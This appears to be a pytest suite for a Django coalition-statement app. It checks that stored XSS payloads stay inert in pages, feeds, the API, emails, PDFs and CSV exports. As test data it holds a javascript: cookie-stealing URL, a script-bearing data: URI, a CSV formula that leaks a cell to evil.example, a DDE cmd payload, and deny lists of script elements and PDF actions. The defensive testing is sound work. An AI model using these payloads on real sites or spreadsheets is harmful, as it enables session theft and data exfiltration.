"""Stored XSS: hostile text put into every field a person can write (statement text, notes,
comments, reasons, names, organisations, the coalition, email addresses, even an SMTP server's
error) stays inert on every page that shows it, in the feed, the API, the CSV export, the emails
and the published PDF, and is shown as the text that was typed."""

import csv
import html
import io
import json
import re
import subprocess
from html.parser import HTMLParser
from urllib.parse import quote
from xml.etree import ElementTree

import markdown
import pytest
from django.conf import settings
from django.core.validators import validate_email
from django.core.exceptions import ValidationError
from django.utils import timezone
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

from coalition import services as coalition_services
from coalition.models import Invitation, OutboundEmail

from statements import services, text
from statements.models import Publication, Signature
from statements.services import cosigning, publishing, subscriptions
from statements.services import Draft

from . import factories
from .helpers import PAYLOADS

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"

# Payloads that carry markup: shown unescaped, each must be caught by the checker below.
MARKUP_PAYLOADS = [p for p in PAYLOADS if "<" in p]
# Payloads that run script once rendered as Markdown without sanitising.
MARKDOWN_PAYLOADS = [p for p in PAYLOADS if "alert" in p and ("<" in p or "](" in p)]

# What organisations' and coalitions' websites hold if an import skips the form's URL check.
HOSTILE_WEBSITE = "javascript:alert(document.cookie)"

# Elements user content must never produce (the site's own pages use none of them).
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style",
                      "base", "template", "portal", "noscript"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
                  "codebase", "cite", "ping", "manifest", "lowsrc", "dynsrc"}
SCRIPTABLE_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript):", re.IGNORECASE)


class _Scan(HTMLParser):
    """Every start tag the browser's tokenizer would see, and the text it would show."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._raw = 0  # inside <script> or <style>

    def handle_starttag(self, tag, attrs):
        attrs = [(name.lower(), value or "") for name, value in attrs]
        described = f"<{tag} {' '.join(f'{n}={v!r}' for n, v in attrs)}>"
        if tag == "script" and not dict(attrs).get("src", "").startswith("/static/"):
            self.problems.append(f"script element {described}")
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"{tag} element {described}")
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "refresh":
            self.problems.append(f"refresh {described}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name} in {described}")
            elif name in URL_ATTRIBUTES and SCRIPTABLE_SCHEME.match(_url_as_browser_reads(value)):
                self.problems.append(f"scriptable URL in {name} of {described}")
            elif name == "srcdoc":
                self.problems.append(f"srcdoc in {described}")
            elif name == "style" and re.search(r"javascript:|expression\(|url\(", value, re.IGNORECASE):
                self.problems.append(f"scriptable style in {described}")
        if tag in ("script", "style"):
            self._raw += 1

    def handle_endtag(self, tag):
        if tag in ("script", "style") and self._raw:
            self._raw -= 1

    def handle_data(self, data):
        if not self._raw:
            self.text.append(data)


def _url_as_browser_reads(value: str) -> str:
    # Browsers drop leading/trailing spaces and control characters and every tab and newline.
    return re.sub(r"[\x00-\x20]", "", value)


def scan(markup: str) -> _Scan:
    scanner = _Scan()
    scanner.feed(markup)
    scanner.close()
    return scanner


def squash(value: str) -> str:
    return " ".join(value.split())


def visible_text(markup: str) -> str:
    return squash(" ".join(scan(markup).text))


# The checker itself -----------------------------------------------------------------------------


@pytest.mark.parametrize("payload", MARKUP_PAYLOADS)
def test_checker_catches_each_markup_payload_left_unescaped(payload):
    page = f"<!DOCTYPE html><html><body><h1>{payload}</h1><textarea>{payload}</textarea></body></html>"
    assert scan(page).problems or squash(payload) not in visible_text(page)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_checker_passes_each_payload_escaped_and_sees_it_as_text(payload):
    page = f"<!DOCTYPE html><html><body><h1>{html.escape(payload)}</h1></body></html>"
    assert scan(page).problems == []
    assert squash(payload) in visible_text(page)


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_checker_catches_each_payload_in_unsanitised_markdown(payload):
    assert scan(markdown.markdown(payload, extensions=["extra", "sane_lists"], output_format="html")).problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_statement_markdown_is_sanitised(payload):
    assert scan(text.render_markdown(f"Text\n\n{payload}\n\n- {payload}\n\n[words]({payload})")).problems == []


# Everything a person can write, with the payload in it --------------------------------------------

FIELDS = {
    "coalition_name": "Coalition", "coalition_description": "Coalition about",
    "org_name": "Organisation", "org_description": "Organisation about", "decliner_org_name": "Declining org",
    "partner_name": "Partner org",
    "coordinator_name": "Coordinator", "staff_name": "Drafter", "signer_name": "Signer", "decliner_name": "Decliner",
    "title": "Title", "summary": "Summary", "body": "Body", "note": "Note",
    "first_title": "First title", "first_summary": "First summary",
    "uk_title": "UK title", "uk_summary": "UK summary", "uk_body": "UK body", "uk_note": "UK note",
    "comment": "Comment", "decline_reason": "Decline reason", "individual_name": "Individual",
    "individual_affiliation": "Affiliation", "hidden_name": "Hidden person", "hide_reason": "Hide reason",
    "correction_note": "Correction", "withdrawal_reason": "Withdrawal reason", "withdrawn_title": "Withdrawn title",
    "smtp_error": "SMTP said", "query": "Search",
}


def values_for(payload: str) -> dict[str, str]:
    return {key: f"{label} {payload}" for key, label in FIELDS.items()}


def hostile_email(payload: str, who: str) -> str:
    """An address with the payload in a quoted local part, which Django's EmailField accepts;
    an ordinary address when the payload cannot be quoted."""
    local = payload.replace("\\", "").replace('"', "'")
    candidate = f'"{who}{local.replace(" ", "")}"@example.org'
    try:
        validate_email(candidate)
    except ValidationError:
        return f"{who}@example.org"
    return candidate


class World:
    """A coalition and a statement taken through its whole life, every writable field hostile."""


def build_world(payload: str, capture) -> World:
    w = World()
    v = w.v = values_for(payload)
    w.coalition = factories.CoalitionFactory(name=v["coalition_name"], description=v["coalition_description"],
                                             website=HOSTILE_WEBSITE)
    w.org = factories.OrganisationFactory(name=v["org_name"], description=v["org_description"],
                                          website=HOSTILE_WEBSITE)
    w.decliner_org = factories.OrganisationFactory(name=v["decliner_org_name"])
    w.partner = factories.OrganisationFactory(name=v["partner_name"])
    for organisation in (w.org, w.decliner_org):
        factories.MembershipFactory(coalition=w.coalition, organisation=organisation)
    w.coordinator = factories.CoordinatorFactory(coalition=w.coalition, user__name=v["coordinator_name"]).user
    w.staff = factories.OrganisationRoleFactory(organisation=w.org, user__name=v["staff_name"]).user
    w.signer = factories.OrganisationRoleFactory(organisation=w.org, can_sign=True, user__name=v["signer_name"]).user
    w.decliner = factories.OrganisationRoleFactory(organisation=w.decliner_org, can_sign=True,
                                                   user__name=v["decliner_name"]).user

    # Drafting: two revisions, a translation, a comment.
    w.statement = services.create_draft(
        w.coalition, by=w.staff, draft=Draft(v["first_title"], v["first_summary"], f"First body\n\n{payload}"),
        language="en", allows_individuals=True)
    first = w.statement.current_revision
    body = f"{v['body']}\n\n{payload}\n\n- {payload}\n\n> {payload}\n\n[words]({payload})"
    services.save_revision(w.statement, by=w.staff, based_on=first,
                           draft=Draft(v["title"], v["summary"], body, v["note"]))
    w.statement.refresh_from_db()
    services.add_translation(w.statement, by=w.staff, language="uk", based_on=None,
                             translation_of=w.statement.current_revision,
                             draft=Draft(v["uk_title"], v["uk_summary"], f"{v['uk_body']}\n\n{payload}", v["uk_note"]))
    services.add_comment(w.statement, by=w.staff, body=f"{v['comment']}\n\n{payload}")

    # A second statement, withdrawn with a reason.
    w.withdrawn = factories.make_statement(w.coalition, by=w.staff, coordinator=w.coordinator, title=v["withdrawn_title"])
    services.withdraw(w.withdrawn, by=w.coordinator, reason=v["withdrawal_reason"])

    # An invitation and a public subscriber, both at hostile addresses.
    w.invitee_email = hostile_email(payload, "invitee")
    w.invitation = coalition_services.invite(w.coalition, by=w.coordinator, email=w.invitee_email,
                                             role=Invitation.Role.STAFF, organisation=w.org)
    w.subscriber_email = hostile_email(payload, "reader")
    w.subscription_token = subscriptions.subscribe(w.subscriber_email, language="en", ip="192.0.2.1")
    subscriptions.confirm(w.subscription_token)
    w.draft_stage = True
    return w


def open_for_signature(w: World) -> None:
    v = w.v
    services.open_for_signature(w.statement, by=w.coordinator, deadline=None)
    w.statement.refresh_from_db()
    sha = w.statement.signed_revision.sha256
    cosigning.invite_partner(w.statement, by=w.coordinator, organisation=w.partner)
    cosigning.sign_for_organisation(w.statement, by=w.signer, organisation=w.org, sha256=sha)
    cosigning.decline(w.statement, by=w.decliner, organisation=w.decliner_org, reason=v["decline_reason"])
    w.individual_email = hostile_email(w.v["individual_name"], "person")
    w.individual_token = cosigning.sign_as_individual(w.statement, person=cosigning.Individual(
        name=v["individual_name"], affiliation=v["individual_affiliation"], email=w.individual_email), ip="192.0.2.2")
    cosigning.confirm_individual(w.statement, token=w.individual_token, sha256=sha)
    hidden_token = cosigning.sign_as_individual(w.statement, person=cosigning.Individual(
        name=v["hidden_name"], email="hidden@example.org"), ip="192.0.2.3")
    cosigning.confirm_individual(w.statement, token=hidden_token, sha256=sha)
    hidden = Signature.objects.get(statement=w.statement, email="hidden@example.org")
    cosigning.hide_signature(hidden, by=w.coordinator, reason=v["hide_reason"])
    # A second person whose link is still unconfirmed: its page shows the statement.
    w.pending_token = cosigning.sign_as_individual(w.statement, person=cosigning.Individual(
        name=v["individual_name"], email="pending@example.org"), ip="192.0.2.4")


def publish_and_correct(w: World, capture) -> None:
    services.close_signing(w.statement, by=w.coordinator)
    w.statement.refresh_from_db()
    with capture(execute=True):
        services.publish(w.statement, by=w.coordinator)
    with capture(execute=True):
        publishing.publish_correction(w.statement, by=w.coordinator, note=w.v["correction_note"])
    w.statement.refresh_from_db()
    w.publications = list(w.statement.publications.order_by("number"))
    assert [p.state for p in w.publications] == [Publication.State.READY] * 2, [p.failure for p in w.publications]
    failed = OutboundEmail.objects.filter(coalition=w.coalition).first()
    failed.last_error, failed.failed_at, failed.attempts = w.v["smtp_error"], timezone.now(), 8
    failed.save(update_fields=["last_error", "failed_at", "attempts"])


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture(params=PAYLOADS, ids=[f"payload{n}" for n in range(len(PAYLOADS))])
def world(request, django_capture_on_commit_callbacks):
    w = build_world(request.param, django_capture_on_commit_callbacks)
    w.payload = request.param
    w.capture = django_capture_on_commit_callbacks
    return w


class Sweep:
    """Fetches pages and collects every problem, so one run reports them all."""

    def __init__(self, client, world: World):
        self.client, self.w, self.problems, self.pages = client, world, [], 0

    def as_user(self, user):
        self.client.logout()
        if user is not None:
            self.client.force_login(user)

    def html(self, url: str, shows: tuple[str, ...] = (), *, user=None, method="get", data=None, status=200):
        self.as_user(user)
        response = getattr(self.client, method)(url, data or {})
        where = f"{method.upper()} {url}"
        self.pages += 1
        if response.status_code != status:
            self.problems.append(f"{where}: status {response.status_code}")
            return response
        markup = response.content.decode()
        self.check_markup(where, markup, shows)
        return response

    def check_markup(self, where: str, markup: str, shows=()):
        found = scan(markup)
        self.problems += [f"{where}: {problem}" for problem in found.problems]
        shown = squash(" ".join(found.text))
        for key in shows:
            expected = squash(self.w.v.get(key, key))
            if expected not in shown:
                self.problems.append(f"{where}: does not show {key} as text: {expected!r}")


@pytest.mark.slow
def test_hostile_text_in_every_field_is_inert_and_shown_as_typed(client, world):
    w, v = world, world.v
    slug = w.statement.slug
    page = f"/statements/{slug}/"
    sweep = Sweep(client, w)

    # While drafting: the draft, its history, differences, events, editing and preview.
    sweep.html(page, ("title", "summary", "comment", "staff_name", "coalition_name"), user=w.staff)
    sweep.html(page + "revisions/", ("title", "first_title", "note", "uk_title", "uk_note", "staff_name"),
               user=w.staff)
    sweep.html(page + "diff/?old=1&new=2", (w.payload,), user=w.staff)
    sweep.html(page + "events/", ("staff_name", "note"), user=w.coordinator)
    sweep.html(page + "edit/", user=w.staff)
    sweep.html(page + "translations/uk/", ("title", "summary"), user=w.staff)
    sweep.html(page + "edit/", ("title",), user=w.staff, method="post", data={
        "title": v["title"], "summary": v["summary"], "body": f"{w.payload}\n\n{v['body']}",
        "note": v["note"], "based_on": w.statement.current_revision_id, "preview": "1"})
    sweep.html("/dashboard/", ("title", "org_name", "coalition_name"), user=w.staff)
    sweep.html(f"/statements/{w.withdrawn.slug}/", ("withdrawn_title", "withdrawal_reason"), user=w.staff)
    sweep.html(f"/coalitions/{w.coalition.slug}/invitations/", ("coalition_name", "org_name"), user=w.coordinator)
    sweep.html(f"/invitations/{w.invitation.token}/", ("coalition_name", "org_name"))
    sweep.html(f"/subscribe/confirm/{w.subscription_token}/")

    # Open for signature: signing, declining, individuals, the roster and its export.
    open_for_signature(w)
    sweep.html(page, ("title", "org_name", "individual_name", "individual_affiliation"))
    sweep.html(page + "signatories/", ("title", "individual_name", "individual_affiliation"))
    sweep.html(page + "signatories/", ("individual_name",), data={"q": v["individual_name"]})
    sweep.html(page + "sign/", ("title", "org_name"), user=w.signer)
    sweep.html(page + "sign/", ("title", "decliner_org_name"), user=w.decliner)
    sweep.html(page + "sign/", ("title",))
    # A refused form comes back with what was typed in it.
    sweep.html(page + "sign/", ("title",), method="post", status=400, data={
        "kind": "individual", "name": v["individual_name"], "affiliation": w.payload, "email": "not an address"})
    sweep.html(page + f"sign/confirm/{w.pending_token}/", ("title",))
    sweep.html(page + "roster/", ("org_name", "decliner_org_name", "decline_reason", "individual_name",
                                  "individual_affiliation", "hidden_name", "hide_reason", "partner_name"),
               user=w.coordinator)
    sweep.html("/dashboard/", ("title", "org_name"), user=w.signer)
    sweep.html("/dashboard/", ("title", "coalition_name"), user=w.coordinator)

    # Published, then corrected.
    publish_and_correct(w, w.capture)
    public = ("title", "summary", "org_name", "individual_name", "individual_affiliation", "correction_note",
              "coalition_name")
    sweep.html(page, public)
    sweep.html(page + "?lang=uk", ("uk_title", "uk_summary"))
    sweep.html(page, public, user=w.coordinator)
    sweep.html(page + "events/", ("decline_reason", "hide_reason", "correction_note"),
               user=w.coordinator)
    sweep.html(page + "roster/", ("org_name", "individual_name", "hide_reason"), user=w.coordinator)
    sweep.html("/", ("title", "summary", "coalition_name", "coalition_description"))
    sweep.html("/statements/", ("title", "summary"))
    sweep.html("/statements/", ("title",), method="get", data={"q": "Title"})
    sweep.html("/statements/", (), data={"q": v["query"]})
    sweep.html("/statements/", ("title",), data={"organisation": w.org.slug})
    sweep.html("/transparency/", ("title",))
    sweep.html("/organisations/", ("org_name", "decliner_org_name"))
    sweep.html(f"/organisations/{w.org.slug}/", ("org_name", "org_description", "title"))
    sweep.html(f"/coalitions/{w.coalition.slug}/", ("coalition_name", "coalition_description", "org_name"))
    sweep.html(f"/coalitions/{w.coalition.slug}/outbox/", ("smtp_error",), user=w.coordinator)
    sweep.html(f"/verify/?statement={slug}", ("title",))
    sweep.html(f"/verify/?sha256={w.publications[1].sha256}", ("title",))
    with w.publications[1].pdf.open("rb") as stored:
        pdf_bytes = stored.read()
    sweep.html("/verify/", ("title",), method="post",
               data={"file": _upload(pdf_bytes)})
    sweep.html(f"/statements/{w.withdrawn.slug}/", ("withdrawal_reason",), user=w.coordinator)

    check_feed_api_and_sitemap(sweep)
    check_csv(sweep)
    check_emails(sweep)
    for publication in w.publications:
        check_pdf(sweep, publication)

    assert sweep.problems == [], "\n".join(sweep.problems)
    assert sweep.pages >= 39


def _upload(data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("statement.pdf", data, content_type="application/pdf")


def check_feed_api_and_sitemap(sweep: Sweep) -> None:
    w, v = sweep.w, sweep.w.v
    sweep.as_user(None)

    response = sweep.client.get("/feed/")
    assert response["Content-Type"].startswith("application/atom+xml")
    feed = ElementTree.fromstring(response.content)  # escaped XML, or it would not parse
    entries = feed.findall(f"{ATOM}entry")
    titles = [entry.findtext(f"{ATOM}title") for entry in entries]
    # Each entry carries the title as typed (issue 1 marked superseded by the correction, issue 2).
    if not titles or not all(v["title"] in (title or "") for title in titles) or not any(
            "2" in (title or "") for title in titles):
        sweep.problems.append(f"/feed/: entry titles are not the statement's title as typed: {titles!r}")
    for entry in entries:
        summary = entry.find(f"{ATOM}summary")
        # A feed reader renders a summary of type "html" as HTML: it must be inert there too.
        shown = summary.text if summary.get("type") == "html" else html.escape(summary.text or "")
        sweep.check_markup("/feed/ summary", shown or "", ("summary",))
    sweep.check_markup("/feed/ correction", " ".join(
        e.find(f"{ATOM}summary").text for e in entries if e.find(f"{ATOM}summary") is not None
        and e.find(f"{ATOM}summary").get("type") == "html"), ("correction_note",))

    response = sweep.client.get("/sitemap.xml")
    assert response["Content-Type"].startswith("application/xml")
    ElementTree.fromstring(response.content)

    for url in ("/api/statements/", f"/api/statements/?q={quote(v['query'])}", f"/api/statements/{w.statement.slug}/"):
        response = sweep.client.get(url)
        if response.status_code != 200 or response["Content-Type"] != "application/json":
            sweep.problems.append(f"{url}: {response.status_code} {response['Content-Type']}")
    data = json.loads(response.content)
    if data["text"]["title"] != v["title"] or data["text"]["summary"] != v["summary"]:
        sweep.problems.append(f"API: the title or summary is not the data as typed: {data['text']!r}")
    if [o["name"] for o in data["signatories"]["organisations"]] != [v["org_name"]]:
        sweep.problems.append(f"API: organisations {data['signatories']['organisations']!r}")
    individuals = json.loads(sweep.client.get(
        data["signatories"]["individuals_url"].removeprefix(settings.SITE_URL)).content)["results"]
    if individuals != [{"name": v["individual_name"], "affiliation": v["individual_affiliation"]}]:
        sweep.problems.append(f"API: individuals {individuals!r}")
    sweep.check_markup("API body_html", data["text"]["body_html"], ("Body",))


def check_csv(sweep: Sweep) -> None:
    w, v = sweep.w, sweep.w.v
    sweep.as_user(w.coordinator)
    response = sweep.client.get(f"/statements/{w.statement.slug}/signatures.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = {cell for row in rows for cell in row}
    for key in ("org_name", "individual_name", "individual_affiliation"):
        if v[key] not in cells:
            sweep.problems.append(f"CSV: no cell is {key} as typed: {v[key]!r}")
    if w.individual_email not in cells:
        sweep.problems.append(f"CSV: no cell is the individual's address {w.individual_email!r}")


def check_emails(sweep: Sweep) -> None:
    w, v = sweep.w, sweep.w.v
    emails = list(OutboundEmail.objects.all())
    escaped = html.escape(w.payload)
    with_title = [email for email in emails if v["title"] in email.subject]
    if not with_title:
        sweep.problems.append(f"emails: no subject has the title as typed: {[e.subject for e in emails]!r}")
    for email in emails:
        where = f"email {email.kind} to {email.recipient}"
        if email.body_html:
            sweep.check_markup(where, email.body_html, ("title",) if email in with_title else ())
        # Plain text is not HTML: it says what was typed, without HTML escapes.
        for part, content in (("subject", email.subject), ("text", email.body_text)):
            if escaped != w.payload and escaped in content:
                sweep.problems.append(f"{where}: HTML escapes in the plain-text {part}: {content[:300]!r}")
        if email in with_title and v["title"] not in email.body_text:
            sweep.problems.append(f"{where}: the text part does not have the title as typed")


def check_pdf(sweep: Sweep, publication: Publication) -> None:
    v, where = sweep.w.v, f"PDF issue {publication.number}"
    with publication.pdf.open("rb") as stored:
        data = stored.read()
    sweep.problems += [f"{where}: {problem}" for problem in pdf_actions(data)]
    printed = "".join(pdftotext(data).split())
    keys = ["title", "summary", "org_name", "individual_name", "individual_affiliation", "coalition_name",
            "uk_title", "uk_summary"] + (["correction_note"] if publication.number > 1 else [])
    for key in keys:
        if "".join(v[key].split()) not in printed:
            sweep.problems.append(f"{where}: does not print {key} as typed: {v[key]!r}")


def pdftotext(data: bytes) -> str:
    return subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout.decode()


# Actions a PDF viewer would run, and the keys that name them.
PDF_SCRIPT_KEYS = {"/JS", "/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/RichMedia", "/GoToE"}
PDF_SCRIPT_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/ResetForm", "/RichMediaExecute",
                      "/Rendition", "/GoToE"}


def pdf_actions(data: bytes) -> list[str]:
    """Every script, launch or non-web URI action anywhere in the file (every object reachable
    from the trailer, in object streams too). Also fails when the file has no web link at all:
    the verification link is always there, so finding none means the walk missed the annotations."""
    reader = PdfReader(io.BytesIO(data))
    problems, uris, seen, stack = [], [], set(), [reader.trailer]
    while stack:
        node = stack.pop()
        if isinstance(node, IndirectObject):
            key = (node.idnum, node.generation)
            if key in seen:
                continue
            seen.add(key)
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            for name, value in node.items():
                if name in PDF_SCRIPT_KEYS:
                    problems.append(f"{name} entry")
                if name == "/S" and value in PDF_SCRIPT_ACTIONS:
                    problems.append(f"{value} action")
                if name == "/URI":
                    uri = str(value.get_object())
                    uris.append(uri)
                    if not re.match(r"^(https?|mailto):", uri, re.IGNORECASE):
                        problems.append(f"URI action to {uri!r}")
                if name not in ("/Parent", "/P"):
                    stack.append(value)
        elif isinstance(node, ArrayObject):
            stack.extend(node)
    if not uris:
        problems.append("no web link found: the walk did not reach the link annotations")
    return problems


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


def test_signatures_csv_opens_formulas_as_text(client, coalition, coordinator, member_org, signer):
    member_org.name = FORMULAS[0]
    member_org.save()
    statement = factories.make_statement(coalition, by=coordinator, status="open", allows_individuals=True)
    revision = statement.signed_revision
    cosigning.sign_for_organisation(statement, by=signer, organisation=member_org, sha256=revision.sha256)
    for n, formula in enumerate(FORMULAS):
        Signature.objects.create(statement=statement, revision=revision, sha256=revision.sha256,
                                 kind=Signature.Kind.INDIVIDUAL, name=formula, affiliation=formula,
                                 email=f"=1+{n}@example.org", confirmed_at=timezone.now())
    client.force_login(coordinator)

    response = client.get(f"/statements/{statement.slug}/signatures.csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))
    individuals = [row for row in rows if row[0] == "individual"]
    assert [row[1] for row in rows if row[0] == "organisation"] == ["'" + FORMULAS[0]]
    # "\t=1+1" becomes "'\t'=1+1": the "=" after the tab is a formula start too (tests/test_spreadsheet_cells.py).
    expected = ["'" + formula.replace("\t=", "\t'=").replace("\r=", "\r'=") for formula in FORMULAS]
    assert [row[2] for row in individuals] == expected
    assert [row[3] for row in individuals] == expected
    assert [row[4] for row in individuals] == [f"'=1+{n}@example.org" for n in range(len(FORMULAS))]
    # Nothing else is touched: dates, numbers and hashes read as before.
    assert individuals[0][8] == str(revision.number) and individuals[0][9] == revision.sha256
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("website, linked", [
    ("https://truth-hounds.org/", True), ("http://example.org/about", True),
    (HOSTILE_WEBSITE, False), ("JaVaScRiPt:alert(1)", False), ("data:text/html,<script>alert(1)</script>", False),
    ("//evil.example/", False),
])
def test_organisation_and_coalition_websites_are_linked_only_when_they_are_web_addresses(
        client, coalition, member_org, website, linked):
    for owner in (coalition, member_org):
        owner.website = website
        owner.save()

    for url in (f"/coalitions/{coalition.slug}/", f"/organisations/{member_org.slug}/"):
        markup = client.get(url).content.decode()
        assert (f'href="{html.escape(website)}"' in markup) is linked
        assert scan(markup).problems == []
